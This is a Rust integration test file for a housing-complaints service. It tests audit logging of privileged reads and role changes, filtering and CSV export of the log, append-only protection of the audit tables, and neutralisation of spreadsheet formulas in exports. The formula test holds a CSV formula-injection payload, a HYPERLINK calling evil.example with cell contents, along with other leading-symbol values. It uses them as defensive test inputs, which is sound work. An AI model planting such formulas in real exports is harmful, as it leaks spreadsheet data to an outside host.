//! The audit log is the record an auditor asks for (issue "Trust", point 8), and exports are
//! safe to open (point 6): the MRC's reads of personal data, role changes and deactivation,
//! filters and a CSV export, and the database refusing to change or delete an entry.

use crate::helpers::*;
use redress_domain::roles::Role;
use reqwest::{Method, StatusCode};
use sea_orm::{ConnectionTrait, Statement};
use serde_json::{Value, json};

db_tests!(
    the_mrcs_reading_of_residents_records_is_audited,
    role_changes_and_removed_access_are_audited,
    the_log_filters_by_actor_subject_kind_and_dates_and_exports_csv,
    the_database_refuses_to_change_or_delete_an_entry,
    a_formula_in_an_answer_is_neutralised_in_the_export,
);

async fn log(app: &TestApp, l: &Landlord, query: &str) -> Vec<Value> {
    expect_status(
        app.get(
            &format!("/api/v1/landlords/{}/audit{query}", l.slug),
            &l.admin().token,
        )
        .await,
        StatusCode::OK,
    )
    .await["items"]
        .as_array()
        .unwrap()
        .clone()
}

async fn the_mrcs_reading_of_residents_records_is_audited(app: TestApp) {
    let l = app.landlord("alpha").await;
    let c = crate::complaints::intake(&app, &l, json!({})).await;
    let resident = c["resident_id"].as_str().unwrap().to_owned();
    let sr = expect_status(
        app.post(
            "/api/v1/landlords/alpha/service-requests",
            Some(&l.user(Role::ComplaintsOfficer).token),
            &json!({"resident_id": resident, "category": "repairs",
                    "description": "Boiler", "reported_on": "2025-01-02"}),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    let reads = [
        ("/residents".to_owned(), "residents.list.read"),
        (format!("/residents/{resident}"), "resident.read"),
        (
            format!("/residents/{resident}/adjustments"),
            "adjustments.read",
        ),
        (
            format!("/residents/{resident}/restrictions"),
            "restrictions.read",
        ),
        ("/service-requests".to_owned(), "service_requests.list.read"),
        (
            format!("/service-requests/{}", sr["id"].as_str().unwrap()),
            "service_request.read",
        ),
        ("/complaints".to_owned(), "complaints.list.read"),
    ];
    // The complaints officer's reading is their job and is not logged...
    for (path, _) in &reads {
        expect_status(
            app.get(
                &format!("/api/v1/landlords/alpha{path}"),
                &l.user(Role::ComplaintsOfficer).token,
            )
            .await,
            StatusCode::OK,
        )
        .await;
    }
    let officer = l.user(Role::ComplaintsOfficer).id;
    assert!(
        log(&app, &l, &format!("?actor={officer}"))
            .await
            .iter()
            .all(|e| !e["kind"].as_str().unwrap().ends_with(".read")),
    );
    // ...the MRC's is, every time, with who, what, when and from where.
    let mrc = l.user(Role::Mrc);
    for (path, kind) in &reads {
        expect_status(
            app.get(&format!("/api/v1/landlords/alpha{path}"), &mrc.token)
                .await,
            StatusCode::OK,
        )
        .await;
        let entries = log(&app, &l, &format!("?kind={kind}")).await;
        assert_eq!(entries.len(), 1, "{kind}: {entries:?}");
        assert_eq!(entries[0]["actor_id"], mrc.id.to_string());
        assert_eq!(entries[0]["client_address"], "127.0.0.1");
        assert_eq!(entries[0]["detail"]["role"], "mrc");
        assert!(entries[0]["occurred_at"].is_string());
    }
}

async fn role_changes_and_removed_access_are_audited(app: TestApp) {
    let l = app.landlord("alpha").await;
    let handler = l.user(Role::CaseHandler);
    for body in [
        json!({"role": "complaints_officer"}),
        json!({"active": false}),
    ] {
        expect_status(
            app.patch(
                &format!("/api/v1/landlords/alpha/users/{}", handler.id),
                &l.admin().token,
                &body,
            )
            .await,
            StatusCode::OK,
        )
        .await;
    }
    let entries = log(&app, &l, &format!("?subject={}", handler.id)).await;
    let kinds: Vec<&str> = entries
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert!(kinds.contains(&"user.role_changed"), "{kinds:?}");
    assert!(kinds.contains(&"user.deactivated"), "{kinds:?}");
    let changed = entries
        .iter()
        .find(|e| e["kind"] == "user.role_changed")
        .unwrap();
    assert_eq!(changed["detail"]["from"], "case_handler");
    assert_eq!(changed["detail"]["to"], "complaints_officer");
    assert_eq!(changed["actor_id"], l.admin().id.to_string());
    // Contractors and settings are on it too.
    let contractor = expect_status(
        app.post(
            "/api/v1/landlords/alpha/contractors",
            Some(&l.admin().token),
            &json!({"name": "Damp Experts", "email": "jobs@damp.test"}),
        )
        .await,
        StatusCode::CREATED,
    )
    .await;
    assert_eq!(
        log(&app, &l, "?kind=contractor.created").await[0]["subject_id"],
        contractor["id"]
    );
}

async fn the_log_filters_by_actor_subject_kind_and_dates_and_exports_csv(app: TestApp) {
    let l = app.landlord("alpha").await;
    let b = app.landlord("bravo").await;
    let mrc = l.user(Role::Mrc);
    let c = crate::complaints::intake(&app, &l, json!({})).await;
    let id = c["id"].as_str().unwrap();
    for _ in 0..3 {
        expect_status(
            app.get(
                &format!("/api/v1/landlords/alpha/complaints/{id}"),
                &mrc.token,
            )
            .await,
            StatusCode::OK,
        )
        .await;
    }
    let by_mrc = log(&app, &l, &format!("?actor={}&kind=complaint.read", mrc.id)).await;
    assert_eq!(by_mrc.len(), 3);
    assert_eq!(log(&app, &l, &format!("?subject={id}")).await.len(), 3);
    let today = chrono::Utc::now().date_naive();
    let yesterday = today - chrono::Duration::days(1);
    let tomorrow = today + chrono::Duration::days(1);
    assert_eq!(
        log(
            &app,
            &l,
            &format!("?kind=complaint.read&from={yesterday}&to={tomorrow}")
        )
        .await
        .len(),
        3
    );
    assert!(
        log(
            &app,
            &l,
            &format!(
                "?kind=complaint.read&to={}",
                today - chrono::Duration::days(3)
            )
        )
        .await
        .is_empty()
    );
    // Bad filters are named; nothing of another landlord shows.
    let p = expect_problem(
        app.get(
            "/api/v1/landlords/alpha/audit?actor=me&from=yesterday&to=2020-01-01",
            &l.admin().token,
        )
        .await,
        StatusCode::UNPROCESSABLE_ENTITY,
    )
    .await;
    let named = fields(&p);
    assert!(named.contains(&"actor".to_owned()) && named.contains(&"from".to_owned()));
    assert!(
        expect_status(
            app.get(
                &format!("/api/v1/landlords/bravo/audit?subject={id}"),
                &b.admin().token,
            )
            .await,
            StatusCode::OK,
        )
        .await["items"]
            .as_array()
            .unwrap()
            .is_empty()
    );
    // The export: the same entries, as CSV; the export is itself on the log.
    let csv = app
        .get(
            &format!("/api/v1/landlords/alpha/audit/export?subject={id}"),
            &l.admin().token,
        )
        .await;
    assert_eq!(csv.status(), StatusCode::OK);
    assert!(
        csv.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = csv.text().await.unwrap();
    let rows: Vec<&str> = text.lines().collect();
    assert!(rows[0].contains("occurred_at,kind,actor_id,client_address,subject_id,detail"));
    assert_eq!(rows.len(), 4, "{text}");
    assert!(rows[1].contains("complaint.read") && rows[1].contains(&mrc.id.to_string()));
    assert_eq!(log(&app, &l, "?kind=audit.exported").await.len(), 1);
    // Only admins read or export it.
    for t in [&mrc.token, &l.user(Role::ComplaintsOfficer).token] {
        expect_problem(
            app.get("/api/v1/landlords/alpha/audit/export", t).await,
            StatusCode::FORBIDDEN,
        )
        .await;
    }
}

async fn the_database_refuses_to_change_or_delete_an_entry(app: TestApp) {
    let l = app.landlord("alpha").await;
    assert!(!log(&app, &l, "").await.is_empty());
    let mut statements = vec![
        "UPDATE audit_log SET kind = 'nothing.happened'",
        "DELETE FROM audit_log",
        "UPDATE platform_audit_log SET kind = 'nothing.happened'",
        "DELETE FROM platform_audit_log",
    ];
    if app.backend == Backend::Postgres {
        statements.push("TRUNCATE audit_log");
        statements.push("TRUNCATE platform_audit_log");
    }
    for sql in statements {
        let err = app
            .db
            .execute_raw(Statement::from_string(app.db.get_database_backend(), sql))
            .await
            .expect_err(sql);
        assert!(err.to_string().contains("append-only"), "{sql}: {err}");
    }
    let still = log(&app, &l, "").await;
    assert!(still.iter().all(|e| e["kind"] != "nothing.happened"));
}

async fn a_formula_in_an_answer_is_neutralised_in_the_export(app: TestApp) {
    let l = app.landlord("alpha").await;
    let officer = &l.user(Role::ComplaintsOfficer).token;
    let base = "/api/v1/landlords/alpha/self-assessments/2024";
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for evidence\")";
    expect_status(
        app.request(Method::PUT, base, Some(officer))
            .json(&json!({"provisions": [
                {"provision": "1.2", "complies": "yes", "evidence": formula,
                 "commentary": "+SUM(1,2)"},
                {"provision": "1.3", "complies": "no", "evidence": "@cmd", "commentary": "-2+3"}
            ]}))
            .send()
            .await
            .unwrap(),
        StatusCode::OK,
    )
    .await;
    let text = app
        .get(&format!("{base}/export?format=csv"), officer)
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut cells: Vec<String> = Vec::new();
    for row in reader.records() {
        cells.extend(row.unwrap().iter().map(str::to_owned));
    }
    for cell in &cells {
        let first = cell.chars().next();
        assert!(
            !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
            "a live formula: {cell:?}"
        );
    }
    assert!(
        cells.contains(&format!("'{formula}")),
        "kept as text: {cells:?}"
    );
    // Read back by the import, the answer is as it was written.
    let next = expect_status(
        app.request(
            Method::POST,
            "/api/v1/landlords/alpha/self-assessments/2025/import",
            Some(officer),
        )
        .header("content-type", "text/csv")
        .body(text)
        .send()
        .await
        .unwrap(),
        StatusCode::OK,
    )
    .await;
    let p = next["provisions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["provision"] == "1.2")
        .unwrap()
        .clone();
    assert_eq!(p["evidence"], formula);
}
